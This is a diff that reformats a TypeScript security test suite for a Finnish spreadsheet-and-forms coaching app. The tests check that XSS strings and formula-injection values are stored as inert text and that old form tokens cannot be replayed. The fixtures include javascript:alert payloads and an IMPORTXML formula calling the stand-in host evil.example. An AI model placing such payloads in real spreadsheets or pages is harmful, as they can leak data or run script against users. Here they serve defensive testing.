@@ -1,7 +1,12 @@
 import { Parser } from 'htmlparser2';
 import { freshWorkspace } from '../helpers/workspace';
 import { readSheetFormulas } from '../../emulator/spreadsheet/harness';
-import { FORMS_STORE, submitPrefilledUrl, submitResponse, type FormsStore } from '../../emulator/forms';
+import {
+  FORMS_STORE,
+  submitPrefilledUrl,
+  submitResponse,
+  type FormsStore,
+} from '../../emulator/forms';
 import type { Workspace } from '../../emulator/workspace';
 import {
   COACHES,
@@ -26,20 +31,30 @@ const XSS = [
   "javascript:alert('x')",
   '<a href="javascript:alert(1)">klikkaa</a>',
 ];
-const FORMULAS = ['=IMPORTXML("http://evil.example","//a")', '+1+1', '-1+2', '@SUM(A1:A2)', '\t=1', '\r=1'];
+const FORMULAS = [
+  '=IMPORTXML("http://evil.example","//a")',
+  '+1+1',
+  '-1+2',
+  '@SUM(A1:A2)',
+  '\t=1',
+  '\r=1',
+];
 
 /** Every element and attribute of an HTML document (a real parser, as a mail client reads it). */
 function scan(html: string): { tags: string[]; attributes: [string, string][]; text: string } {
   const found = { tags: [] as string[], attributes: [] as [string, string][], text: '' };
-  const parser = new Parser({
-    onopentag(name, attributes) {
-      found.tags.push(name);
-      for (const [k, v] of Object.entries(attributes)) found.attributes.push([k, v]);
+  const parser = new Parser(
+    {
+      onopentag(name, attributes) {
+        found.tags.push(name);
+        for (const [k, v] of Object.entries(attributes)) found.attributes.push([k, v]);
+      },
+      ontext(t) {
+        found.text += t;
+      },
     },
-    ontext(t) {
-      found.text += t;
-    },
-  }, { decodeEntities: true });
+    { decodeEntities: true },
+  );
   parser.write(html);
   parser.end();
   return found;
@@ -52,7 +67,12 @@ function prepared(): Workspace {
   coachCall(ws, 'setSetting', ['coaches', COACHES.join(', ')]);
   coachCall(ws, 'putRows', [
     'Ryhmät',
-    GROUPS.map((g, i) => ({ ...g, Nimi: `${g.Nimi} ${XSS[i]}`, 'Kesto (min)': 60, Ohjaaja: COACHES[0] })),
+    GROUPS.map((g, i) => ({
+      ...g,
+      Nimi: `${g.Nimi} ${XSS[i]}`,
+      'Kesto (min)': 60,
+      Ohjaaja: COACHES[0],
+    })),
   ]);
   const header =
     'Nimi;Sähköposti;Kieli;Malli;Jakso alkaa;Jakso päättyy;Työtoimintapäivät;Tunnit/päivä;Ryhmä;Ohjaaja;Tavoitteet;Perehdytetty;Tila';
@@ -108,11 +128,15 @@ describe('injection', () => {
   test('formula-start values are stored as text, never as formulas', () => {
     const book = ws.meta.boundSpreadsheetId as string;
     for (const sheet of ['Asiakkaat', 'Viikkosuunnitelmat', 'Lähetykset', 'Loki', 'Päiväkirjat']) {
-      const formulas = readSheetFormulas(ws.rt, book, sheet).flat().filter((f) => f !== '');
+      const formulas = readSheetFormulas(ws.rt, book, sheet)
+        .flat()
+        .filter((f) => f !== '');
       expect({ sheet, formulas }).toEqual({ sheet, formulas: [] });
     }
     const goals = sheetView(ws, 'Asiakkaat').rows.map((r) => text(r.Tavoitteet));
-    expect(goals).toEqual(expect.arrayContaining(['=IMPORTXML("http://evil.example","//a")', '+1+1']));
+    expect(goals).toEqual(
+      expect.arrayContaining(['=IMPORTXML("http://evil.example","//a")', '+1+1']),
+    );
   });
 
   describe('tokens', () => {
@@ -157,17 +181,21 @@ describe('injection', () => {
       expect(ws.call('rotateReflectionToken', ['A0002'])).toBe(true);
       const { responseId } = submitPrefilledUrl(ws.rt.stores, oldLink, {}, { atMs: ws.now() });
       ws.advance(ws.now() + 120_000);
-      const replayed = sheetView(ws, 'Päiväkirjat').rows.find((r) => text(r.Vastaus) === responseId)!;
+      const replayed = sheetView(ws, 'Päiväkirjat').rows.find(
+        (r) => text(r.Vastaus) === responseId,
+      )!;
       expect(text(replayed.Asiakas)).toBe('');
       const newLink = ws.call('reflectionLink', ['A0002', '2026-12-02']) as string;
       expect(newLink).not.toBe(oldLink);
       const fresh = submitPrefilledUrl(ws.rt.stores, newLink, {}, { atMs: ws.now() });
       ws.advance(ws.now() + 120_000);
-      const ok = sheetView(ws, 'Päiväkirjat').rows.find((r) => text(r.Vastaus) === fresh.responseId)!;
+      const ok = sheetView(ws, 'Päiväkirjat').rows.find(
+        (r) => text(r.Vastaus) === fresh.responseId,
+      )!;
       expect(text(ok.Asiakas)).toBe('A0002');
     });
 
-    test("typed text from the form is stored as text (no formula)", () => {
+    test('typed text from the form is stored as text (no formula)', () => {
       const formulas = readSheetFormulas(ws.rt, ws.meta.boundSpreadsheetId as string, 'Päiväkirjat')
         .flat()
         .filter((f) => f !== '');
